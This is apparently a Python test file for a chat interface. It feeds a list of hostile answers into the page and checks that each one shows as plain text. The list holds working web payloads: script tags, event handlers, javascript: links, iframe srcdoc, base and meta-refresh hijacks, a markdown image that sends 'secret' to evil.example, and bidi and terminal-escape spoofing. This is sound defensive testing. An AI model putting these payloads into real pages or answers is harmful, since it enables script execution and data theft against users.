"""Answers that a browser might run, fetch, follow or fail on: the page shows them as text."""

from collections.abc import Callable

import pytest
from support import scripted_server
from support.page_server import LEAVE, Opened

EVIL = "http://evil.example"
PIECES = [
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    f'<img src="{EVIL}/a.png"> <video src="{EVIL}/v" autoplay></video>',
    f"![x]({EVIL}/?q=secret) ![y][ref] ![z](//evil.example/z)\n\n[ref]: {EVIL}/ref.png",
    "[click](javascript:window.pwned=1) <javascript:window.pwned=1> [b](data:text/html,<script>window.pwned=1</script>)",
    "<svg onload=window.pwned=1><a xlink:href=javascript:window.pwned=1>s</a></svg>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe> <object data=data:text/html,x></object>',
    f"<style>@import url({EVIL}/s.css); body {{ display: none }}</style> <link rel=stylesheet href={EVIL}/l.css>",
    f'<meta http-equiv=refresh content="0;url={EVIL}"> <base href="{EVIL}/">',
    f"{EVIL}/plain <a href={EVIL} ping={EVIL}>a</a>",
    f"<form action={EVIL}><button autofocus onfocus=window.pwned=1>b</button></form>",
    "abc\u202egnp.exe\u202c \u2066x\u2069",
    f"\x1b[2J\x1b]8;;{EVIL}\x07link\x1b]8;;\x07 \x00\x9b31m",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; {{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n"
    "| `<script>window.pwned=1</script>` | **<b onclick=window.pwned=1>c</b>** |",
]


@pytest.fixture
def strict(opened: Callable[..., Opened]) -> Opened:
    """The page without the content security policy of the server."""
    found = opened(wait=False)
    found.page.route("**/", lambda route: route.fulfill(response=(got := route.fetch()), headers=_free(got.headers)))
    found.page.reload()
    found.page.wait_for_selector("html[data-ready]", state="attached")
    return found


def _free(headers: dict[str, str]) -> dict[str, str]:
    return {name: value for name, value in headers.items() if name.lower() != "content-security-policy"}


def test_hostile_answers_are_text(strict: Opened) -> None:
    answer = "\n\n".join(PIECES)
    strict.server.plays(scripted_server.stream(*(f"{piece}\n\n" for piece in PIECES), "Up to five days [1]."))
    before = len(strict.requests)
    turn = strict.ask(LEAVE)
    turn.locator(".cite").first.click()
    strict.page.locator("#panel mark.passage").first.wait_for()
    strict.page.get_by_role("tab", name="Checks").click()
    shown = turn.locator(".body").inner_text()
    for piece in (PIECES[0], PIECES[1], f"![x]({EVIL}/?q=secret)", "[click](javascript:window.pwned=1)", "&lt;script&gt;"):
        assert piece in shown
    hidden = sum(answer.count(letter) for letter in "\u202e\u202c\u2066\u2069\x1b\x07\x00\x9b")
    assert turn.locator(".hidden-letter").count() == hidden
    assert strict.page.evaluate("window.pwned") is None
    assert strict.page.evaluate("document.baseURI").startswith(strict.server.url)
    elements = "img, a, script, style, iframe, form, video, object, svg:not(.icon)"
    assert turn.locator(elements).count() == 0
    asked = {url.removeprefix(strict.server.url).split("?")[0] for url in strict.requests[before:]}
    assert asked <= {"/chat", "/documents/staff/leave.md", "/page/icons.svg"}, "no URL of an answer is fetched"
